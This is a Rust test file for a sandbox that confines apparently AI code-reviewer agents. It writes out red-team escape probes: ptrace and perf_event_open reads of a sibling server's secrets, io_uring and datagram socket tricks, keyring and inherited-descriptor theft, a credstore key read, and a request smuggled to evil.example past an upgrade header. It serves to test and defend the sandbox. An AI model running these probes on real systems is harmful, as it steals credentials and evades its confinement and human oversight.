//! What a reviewer's command reaches beyond the file system, with stand-in reviewers (the
//! red team of issue 31's findings, each denied now by the sandbox):
//! (1) the environment of a process the reviewer started (an MCP server's, "which holds what
//! only that server may have", docs/sandbox.md) through `ptrace` and `PTRACE_PEEKDATA` of its
//! stack (`tests/fixtures/sandbox_reach/peek.py`, a file of the hostile worktree), where
//! `/proc/<pid>/environ` is denied: Landlock refuses `ptrace` of a process outside the
//! sandbox only; the seccomp filter (`src/launch/seccomp.rs`) refuses it inside. The same
//! attachment writes (`PTRACE_POKEDATA`): `tests/clients/sandbox_reach_qwen.rs` had a tool
//! make the client itself `TIOCSTI` into the daemon's terminal.
//! (2) With the door on, a pathname unix socket and a System V shared memory segment of the
//! daemon's: no `socket(AF_UNIX)` (the seccomp filter), an IPC namespace of its own.
//! (3) The door passes no request it did not read behind a head with an `upgrade` header.
//! (4) The red team of issue 33, past the seccomp filter of (1) and (2): a unix socket made
//! by `io_uring` (`IORING_OP_SOCKET`, `tests/fixtures/sandbox_reach/uring.py`) connected to
//! the daemon's socket; a datagram socket of a `socketpair` sent to the daemon's datagram
//! socket by its path; a key of the daemon's session keyring (inherited) read with `keyctl`;
//! a sibling's environment read from its user stack through `perf_event_open` samples
//! (`tests/fixtures/sandbox_reach/perf.py`); a descriptor the daemon holds without
//! close-on-exec (a supervisor's or socket activation's, one a library opened) inherited:
//! a file of the daemon's read, a TCP connection of the daemon's written past the door.
//!
//! Each is denied in the default sandbox (`Confinement::BestEffort`, here the whole of it)
//! and done with `Confinement::Off` (the bite).

use crate::common;

use std::time::Duration;

use common::carry::{kernel_gives, probe_answers, until_exit, worktree_plan};
use common::door::one_connection_upstream;
use common::outside::{DaemonDatagram, DaemonSocket, Segment, SessionKey};
use common::stand_in::sh_script;
use kcap_mcp_registry::clients::Client;
use kcap_mcp_registry::launch::door::{Endpoint, Network};
use kcap_mcp_registry::launch::sandbox::{self, Confinement};
use kcap_mcp_registry::launch::{self, Options};

/// The hostile worktree's reader of another process's stack.
const PEEK: &str = include_str!("../fixtures/sandbox_reach/peek.py");

/// The hostile worktree's unix socket made through `io_uring`, connected to a path.
const URING: &str = include_str!("../fixtures/sandbox_reach/uring.py");

/// The hostile worktree's sampler of another process's user stack (`perf_event_open`).
const PERF: &str = include_str!("../fixtures/sandbox_reach/perf.py");

/// One stand-in reviewer under `confinement`: it starts a sibling holding a key in its
/// environment (as a client starts an MCP server), then reads that key through `ptrace`;
/// `sibling_ptrace` is whether it got it, `sibling_environ` whether `/proc/<pid>/environ`
/// gave it.
fn probe(confinement: Confinement) -> std::collections::BTreeMap<String, bool> {
    run(&Options::default().with_confinement(confinement), |peek| {
        format!(
            r#"env SIBLING=sibling-only-key /bin/sleep 20 & s=$!
sleep 0.3
if /usr/bin/python3 {peek} $s SIBLING=sibling-only-key | /bin/grep -q PEEKED; then echo sibling_ptrace=yes; else echo sibling_ptrace=no; fi
if /bin/grep -a -q sibling-only-key /proc/$s/environ 2>/dev/null; then echo sibling_environ=yes; else echo sibling_environ=no; fi
kill $s
"#
        )
    })
}

/// Launches a stand-in reviewer with `options` whose script is `body(peek.py's path)` (the
/// other fixtures beside it)
/// followed by `probes-done`; each `name=yes|no` it printed.
fn run(
    options: &Options,
    body: impl Fn(&str) -> String,
) -> std::collections::BTreeMap<String, bool> {
    let root = tempfile::Builder::new()
        .prefix("kcap-reach-")
        .tempdir()
        .unwrap();
    let at = |p: &str| root.path().join(p);
    for dir in ["tree", "bin"] {
        std::fs::create_dir(at(dir)).unwrap();
    }
    for (name, text) in [("peek.py", PEEK), ("uring.py", URING), ("perf.py", PERF)] {
        std::fs::write(at("tree").join(name), text).unwrap();
    }
    let body = format!(
        "{}echo probes-done\n",
        body(&at("tree/peek.py").display().to_string())
    );
    let client = sh_script(&at("bin"), "reviewer", &body);
    let plan = worktree_plan(Client::Codex, &at("tree"), &at("launch"), "/usr/bin:/bin");
    let mut reviewer = launch::launch(&plan, &client, options).unwrap();
    let (output, _) = until_exit(&mut reviewer, Duration::from_secs(30));
    reviewer.stop().unwrap();
    assert!(output.contains("probes-done"), "{output}");
    probe_answers(&output)
}

#[test]
fn a_reviewers_command_cannot_read_a_sibling_mcp_servers_environment_through_ptrace() {
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX") {
        return;
    }
    let confined = probe(Confinement::BestEffort);
    let open = probe(Confinement::Off);
    assert_eq!(
        open.get("sibling_ptrace"),
        Some(&true),
        "sandbox off: {open:?}"
    );
    assert_eq!(
        open.get("sibling_environ"),
        Some(&true),
        "sandbox off: {open:?}"
    );
    // What the sandbox already denies: the path.
    assert_eq!(
        confined.get("sibling_environ"),
        Some(&false),
        "{confined:?}"
    );
    // What it does not: the same memory through ptrace.
    assert_eq!(
        confined.get("sibling_ptrace"),
        Some(&false),
        "a sibling's environment read through ptrace in the sandbox: {confined:?}"
    );
}

/// With the door on (a network namespace of its own: "no network but the endpoints its plan
/// names"), a reviewer's command still reaches, outside: a listening pathname unix socket in a
/// `0700` directory of the daemon's (Landlock governs no `connect(2)`, a network namespace
/// no pathname socket: a proxy's or a container engine's socket is a way out past the door),
/// and a System V shared memory segment of the daemon's (the IPC namespace is the host's).
/// Both done with the sandbox off (the bite).
#[test]
fn with_the_door_a_reviewer_reaches_no_unix_socket_and_no_shared_memory_outside() {
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX")
        || kcap_mcp_registry::launch::door::missing().is_some()
    {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let socket = DaemonSocket::bind(outside.path());
    let segment = Segment::new(0x6835_0000, b"daemon-shm-secret");
    let key = segment.key;
    let door = Network::Door(vec![Endpoint::new(8080, "127.0.0.1:9")]);
    let body = |_: &str| {
        format!(
            r#"if /usr/bin/python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("{socket}")' 2>/dev/null; then echo unix_socket=yes; else echo unix_socket=no; fi
if /usr/bin/python3 -c 'import ctypes; c=ctypes.CDLL(None); c.shmat.restype=ctypes.c_void_p; i=c.shmget({key},0,0); assert i>=0; assert ctypes.string_at(c.shmat(i,None,0),17) == b"daemon-shm-secret"' 2>/dev/null; then echo sysv_shm=yes; else echo sysv_shm=no; fi
if /usr/bin/python3 -c 'import socket; socket.create_connection(("1.1.1.1", 53), 2)' 2>/dev/null; then echo other_address=yes; else echo other_address=no; fi
"#,
            socket = socket.path.display(),
        )
    };
    let open = run(
        &Options::default()
            .with_confinement(Confinement::Off)
            .with_network(door.clone()),
        body,
    );
    let confined = run(&Options::default().with_network(door), body);
    drop(segment);
    // The door itself holds: no other address.
    assert_eq!(confined.get("other_address"), Some(&false), "{confined:?}");
    for item in ["unix_socket", "sysv_shm"] {
        assert_eq!(open.get(item), Some(&true), "sandbox off: {open:?}");
        assert_eq!(
            confined.get(item),
            Some(&false),
            "{item} reached past the door and the default sandbox: {confined:?}"
        );
    }
}

/// Past the seccomp filter's `socket(AF_UNIX)` and `ptrace` (the red team of issue 33), with
/// the door on: a unix socket made by `io_uring` connects to the daemon's socket; a datagram
/// socket of a pair (`socketpair` stays allowed) sends to the daemon's datagram socket by its
/// path; `keyctl` reads a key of the daemon's session keyring, which the reviewer inherits
/// through its user namespace (every reviewer of the daemon shares it); `perf_event_open`
/// samples a sibling's user stack and finds its environment there; on a virtual machine with
/// a `vsock` device, a `vsock` socket is made and bound (the kernel's `vsock` ignores network
/// namespaces: the host's services lie past the door). Each done with the sandbox off (the
/// bite), and each done in the default sandbox before the filter refused `io_uring`,
/// datagram pairs, the keyring calls, `perf_event_open` and `socket(AF_VSOCK)`.
#[test]
fn a_reviewers_command_reaches_no_socket_keyring_or_stack_past_the_filter() {
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX")
        || kcap_mcp_registry::launch::door::missing().is_some()
    {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let socket = DaemonSocket::bind(outside.path());
    let dgram = DaemonDatagram::bind(outside.path());
    // This thread's session keyring, the one its reviewers inherit.
    let key = SessionKey::join_and_add("kcap-daemon-key", "daemon-keyring-secret");
    let door = Network::Door(vec![Endpoint::new(8080, "127.0.0.1:9")]);
    let body = |peek: &str| {
        let dir = std::path::Path::new(peek)
            .parent()
            .unwrap()
            .display()
            .to_string();
        format!(
            r#"p() {{ n=$1; shift; if "$@" 2>/dev/null | /bin/grep -q "$PROBE_OK"; then echo "$n=yes"; else echo "$n=no"; fi; }}
PROBE_OK=CONNECTED p uring_socket /usr/bin/python3 {dir}/uring.py {socket}
PROBE_OK=SENT p dgram_socket /usr/bin/python3 -c 'import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b"kcap-dgram-reached", "{dgram}"); print("SENT")'
PROBE_OK={secret} p session_keyring /usr/bin/python3 -c '
import ctypes
c = ctypes.CDLL(None); c.syscall.restype = ctypes.c_long
k = c.syscall(250, 10, ctypes.c_long(-3), b"user", b"{desc}", 0)
b = ctypes.create_string_buffer(64)
n = c.syscall(250, 11, ctypes.c_long(k), b, 64) if k >= 0 else -1
print(b.raw[:max(n, 0)].decode())'
env -i SIBLING=sibling-only-key /bin/sh -c 'i=0; while [ $i -lt 30000000 ]; do i=$((i+1)); done' & s=$!
sleep 0.2
PROBE_OK=PEEKED p sibling_stack /usr/bin/python3 {dir}/perf.py $s SIBLING=sibling-only-key
kill $s
PROBE_OK=BOUND p vsock_socket /usr/bin/python3 -c 'import socket; s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY)); print("BOUND")'
"#,
            socket = socket.path.display(),
            dgram = dgram.path.display(),
            secret = key.value,
            desc = key.description,
        )
    };
    let open = run(
        &Options::default()
            .with_confinement(Confinement::Off)
            .with_network(door.clone()),
        body,
    );
    let reached_open = dgram.received();
    let confined = run(&Options::default().with_network(door), body);
    let reached_confined = dgram.received();
    // A vsock socket where the machine is a virtual machine with a vsock device (here).
    let vsock = std::path::Path::new("/dev/vsock").exists();
    let items: Vec<&str> = [
        "uring_socket",
        "dgram_socket",
        "session_keyring",
        "sibling_stack",
    ]
    .into_iter()
    .chain(vsock.then_some("vsock_socket"))
    .collect();
    for item in &items {
        assert_eq!(open.get(*item), Some(&true), "sandbox off: {open:?}");
    }
    assert_eq!(reached_open, ["kcap-dgram-reached"], "sandbox off");
    for item in &items {
        assert_eq!(
            confined.get(*item),
            Some(&false),
            "{item} done in the default sandbox: {confined:?}"
        );
    }
    assert!(
        reached_confined.is_empty(),
        "the daemon's datagram socket got {reached_confined:?} from the default sandbox"
    );
}

/// A descriptor the daemon holds without close-on-exec reaches the client and all it starts
/// (the executor closed none: red team of issue 33): a file of the daemon's in a `0700`
/// directory, read through it, and a TCP connection of the daemon's, written through it
/// with the door on (the host's network, past the door). Landlock checks a path when it is
/// opened, not a descriptor that was open before. Expected: neither is open in the
/// reviewer, sandbox or not (the executor has every descriptor but the standard streams
/// closed at exec). Bite: without the child's `close_range`, both read and written.
#[test]
fn a_reviewer_inherits_no_descriptor_of_the_daemons() {
    use std::io::Read as _;
    use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX")
        || kcap_mcp_registry::launch::door::missing().is_some()
    {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("daemon.key");
    std::fs::write(&secret, "daemon-fd-secret").unwrap();
    let path = std::ffi::CString::new(secret.display().to_string()).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let stream = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (mut accepted, _) = listener.accept().unwrap();
    accepted
        .set_read_timeout(Some(Duration::from_secs(1)))
        .unwrap();
    // SAFETY: open and dup make new descriptors, owned below; neither is close-on-exec, as
    // a descriptor a daemon got from its parent or a C library is not.
    let (file, conn) = unsafe {
        let file = libc::open(path.as_ptr(), libc::O_RDONLY);
        let conn = libc::dup(stream.as_raw_fd());
        assert!(file > 2 && conn > 2);
        (OwnedFd::from_raw_fd(file), OwnedFd::from_raw_fd(conn))
    };
    let door = Network::Door(vec![Endpoint::new(8080, "127.0.0.1:9")]);
    let body = |_: &str| {
        format!(
            r#"if /usr/bin/python3 -c 'import os; assert os.read({file}, 64) == b"daemon-fd-secret"' 2>/dev/null; then echo daemon_file=yes; else echo daemon_file=no; fi
if /usr/bin/python3 -c 'import os; os.write({conn}, b"kcap-fd-reached\n")' 2>/dev/null; then echo daemon_connection=yes; else echo daemon_connection=no; fi
"#,
            file = file.as_raw_fd(),
            conn = conn.as_raw_fd(),
        )
    };
    let mut got = Vec::new();
    let mut received = || {
        let mut buf = [0u8; 64];
        let n = accepted.read(&mut buf).unwrap_or(0);
        got.push(String::from_utf8_lossy(&buf[..n]).into_owned());
    };
    let open = run(
        &Options::default()
            .with_confinement(Confinement::Off)
            .with_network(door.clone()),
        body,
    );
    received();
    let confined = run(&Options::default().with_network(door), body);
    received();
    drop((file, conn));
    for item in ["daemon_file", "daemon_connection"] {
        for answers in [&open, &confined] {
            assert_eq!(
                answers.get(item),
                Some(&false),
                "{item} through an inherited descriptor: sandbox off {open:?}, sandboxed \
                 {confined:?}"
            );
        }
    }
    assert_eq!(
        got,
        ["", ""],
        "the daemon's connection carried the reviewer's bytes"
    );
}

/// A root daemon's reviewer read a file of root's in `/etc` that no list of secrets named:
/// `/etc/credstore/kcap.key` (`0600` in a `0700` directory: systemd's store of a service's
/// credentials, `LoadCredential=`), through the sandbox's `/etc` rule (red team of issue
/// 33). The file lies in an overlay of `/etc` in a mount namespace of this test's thread (the
/// executor and the reviewer live there; the machine's `/etc` is not written). Expected: no
/// file of `/etc` that every user cannot read is reached in the sandbox; `/etc/passwd` still
/// is. Bite: with `sandbox::private_in_etc` finding nothing, `credstore` is read.
#[test]
fn a_root_reviewer_reads_no_file_of_etc_every_user_cannot() {
    use std::os::unix::fs::DirBuilderExt as _;
    if !rustix::process::geteuid().is_root() {
        eprintln!("ignored: an overlay of /etc and a file of root's there need root");
        return;
    }
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX") {
        return;
    }
    let layer = tempfile::tempdir().unwrap();
    for d in ["u", "w"] {
        std::fs::create_dir(layer.path().join(d)).unwrap();
    }
    let store = layer.path().join("u/credstore");
    std::fs::DirBuilder::new()
        .mode(0o700)
        .create(&store)
        .unwrap();
    std::fs::write(store.join("kcap.key"), "sk-daemon-credstore-key").unwrap();
    common::stand_in::set_file_mode(&store.join("kcap.key"), 0o600);
    let options = format!(
        "lowerdir=/etc,upperdir={0}/u,workdir={0}/w",
        layer.path().display()
    );
    let (confined, open) = std::thread::spawn(move || {
        let c = |s: &str| std::ffi::CString::new(s).unwrap();
        let none = std::ptr::null::<libc::c_char>();
        // SAFETY: unshare and mount with strings alive for the calls; the namespace is this
        // thread's and private, so nothing reaches the machine's `/etc`.
        unsafe {
            assert_eq!(libc::unshare(libc::CLONE_NEWNS), 0);
            let private = libc::MS_REC | libc::MS_PRIVATE;
            assert_eq!(libc::mount(none, c("/").as_ptr(), none, private, std::ptr::null()), 0);
            let opts = c(&options);
            let overlay = c("overlay");
            let etc = c("/etc");
            assert_eq!(
                libc::mount(overlay.as_ptr(), etc.as_ptr(), overlay.as_ptr(), 0, opts.as_ptr().cast()),
                0,
                "mount the overlay: {}",
                std::io::Error::last_os_error()
            );
        }
        let body = |_: &str| {
            r#"if /bin/grep -q sk-daemon /etc/credstore/kcap.key 2>/dev/null; then echo credstore=yes; else echo credstore=no; fi
if /bin/grep -q root /etc/passwd; then echo passwd=yes; else echo passwd=no; fi
"#
            .to_owned()
        };
        (
            run(&Options::default(), body),
            run(&Options::default().with_confinement(Confinement::Off), body),
        )
    })
    .join()
    .unwrap();
    assert_eq!(open.get("credstore"), Some(&true), "sandbox off: {open:?}");
    assert_eq!(
        confined.get("credstore"),
        Some(&false),
        "a root reviewer read /etc/credstore/kcap.key in the sandbox: {confined:?}"
    );
    assert_eq!(confined.get("passwd"), Some(&true), "{confined:?}");
}

/// The door's HTTP reading (docs/network.md, "The key stays outside") takes origin-form
/// targets only, no `CONNECT`, no `TRACE`, and sets the upstream's `host`, so that an upstream
/// that is a proxy or a gateway routing by host sends nothing on to a host the reviewer names.
/// But after a head with an `upgrade` header the rest of the connection passes as bytes,
/// whether or not the upstream switched protocols (here it answers `200`, as an API that
/// ignores `upgrade` does): a second request pipelined behind it reaches the upstream
/// unread, `CONNECT` to a host the reviewer names included. Expected: no byte of that second
/// request reaches the upstream. It failed before the door waited for the upstream's `101`.
#[test]
fn the_door_passes_no_request_it_did_not_read_behind_an_upgrade_header() {
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX")
        || kcap_mcp_registry::launch::door::missing().is_some()
    {
        return;
    }
    let (tls, root) = tls_upstream();
    let mut answered = false;
    let (addr, seen) = one_connection_upstream(Some(tls), move |got, conn| {
        if !answered {
            let _ = conn.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok");
            answered = true;
        }
        String::from_utf8_lossy(got).contains("evil.example")
    });
    let door = tls_door(addr);
    let body = |_: &str| {
        r#"/usr/bin/python3 -c '
import socket, time
s = socket.create_connection(("127.0.0.1", 8080), 5)
s.sendall(b"GET /v1/models HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example:443\r\n\r\n")
time.sleep(1)
print("sent=yes")
'
"#
        .to_owned()
    };
    let _ = run(
        &Options::default().with_network(door).with_door_root(root),
        body,
    );
    let seen = seen.join().unwrap();
    assert!(seen.starts_with("GET /v1/models HTTP/1.1\r\n"), "{seen}");
    assert!(
        !seen.contains("CONNECT evil.example"),
        "the upstream got a request the door did not read: {seen}"
    );
}

/// The other side of the rule above: where the upstream does switch (`101 Switching
/// Protocols`, a WebSocket), what the reviewer sends next passes as bytes, both ways.
#[test]
fn the_door_passes_a_connection_the_upstream_switched() {
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX")
        || kcap_mcp_registry::launch::door::missing().is_some()
    {
        return;
    }
    let (tls, root) = tls_upstream();
    let mut switched = false;
    let (addr, seen) = one_connection_upstream(Some(tls), move |got, conn| {
        if !switched && got.windows(4).any(|w| w == b"\r\n\r\n") {
            conn.write_all(b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n")
                .unwrap();
            switched = true;
        } else if switched && String::from_utf8_lossy(got).contains("frame-1") {
            conn.write_all(b"echo-frame-1").unwrap();
            return true;
        }
        false
    });
    let door = tls_door(addr);
    let body = |_: &str| {
        r#"/usr/bin/python3 -c '
import socket
s = socket.create_connection(("127.0.0.1", 8080), 5)
s.sendall(b"GET /v1/responses HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n")
got = b""
while b"\r\n\r\n" not in got:
    got += s.recv(4096)
s.sendall(b"frame-1")
echo = s.recv(4096)
print("switched=" + ("yes" if got.startswith(b"HTTP/1.1 101") else "no"))
print("echoed=" + ("yes" if echo == b"echo-frame-1" else "no"))
'
"#
        .to_owned()
    };
    let answers = run(
        &Options::default().with_network(door).with_door_root(root),
        body,
    );
    let seen = seen.join().unwrap();
    assert!(seen.starts_with("GET /v1/responses HTTP/1.1\r\n"), "{seen}");
    assert!(seen.ends_with("frame-1"), "{seen}");
    assert_eq!(answers.get("switched"), Some(&true), "{answers:?}");
    assert_eq!(answers.get("echoed"), Some(&true), "{answers:?}");
}

/// On an endpoint with the daemon's credential no protocol switch passes: what follows one
/// is bytes the door does not read, so a WebSocket's messages (each a model request on the
/// OpenAI Responses API) would not count against the launch's budget. The upgrade request
/// gets a `426` (on which Codex CLI sends its request over HTTP), nothing reaches the
/// upstream, the key included. It failed when the door passed the upgrade with the key.
#[test]
fn no_protocol_switch_passes_with_the_daemons_key() {
    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX")
        || kcap_mcp_registry::launch::door::missing().is_some()
    {
        return;
    }
    let (addr, seen) = one_connection_upstream(None, |got, conn| {
        if got.windows(4).any(|w| w == b"\r\n\r\n") {
            let _ = conn.write_all(b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n");
        }
        false
    });
    let door = Network::Door(vec![Endpoint::new(8080, addr).with_credential(
        kcap_mcp_registry::launch::door::Credential::new("x-api-key", "daemon-key"),
    )]);
    let body = |_: &str| {
        r#"/usr/bin/python3 -c '
import socket
s = socket.create_connection(("127.0.0.1", 8080), 5)
s.sendall(b"GET /v1/responses HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n")
got = b""
while True:
    chunk = s.recv(4096)
    if not chunk:
        break
    got += chunk
print("refused=" + ("yes" if got.startswith(b"HTTP/1.1 426 Upgrade Required") and b"send the request over HTTP" in got else "no"))
'
"#
        .to_owned()
    };
    let answers = run(&Options::default().with_network(door), body);
    assert_eq!(answers.get("refused"), Some(&true), "{answers:?}");
    let seen = seen.join().unwrap();
    assert_eq!(seen, "", "the upstream got: {seen}");
}

/// A TLS upstream's configuration (its certificate for `127.0.0.1`, by a CA made for the
/// test) and the CA's root, for the door.
fn tls_upstream() -> (std::sync::Arc<rustls::ServerConfig>, Vec<u8>) {
    let ca = common::door::TestCa::new("kcap upgrade test CA");
    let (cert, key) = ca.leaf(&["127.0.0.1"]);
    (common::door::tls_server(cert, key), ca.der())
}

/// The door of the upgrade tests: port 8080 to `upstream` over TLS, whose requests' heads
/// the door reads, without a credential (with one, no switch passes at all).
fn tls_door(upstream: String) -> Network {
    Network::Door(vec![Endpoint::new(8080, upstream).over_tls()])
}
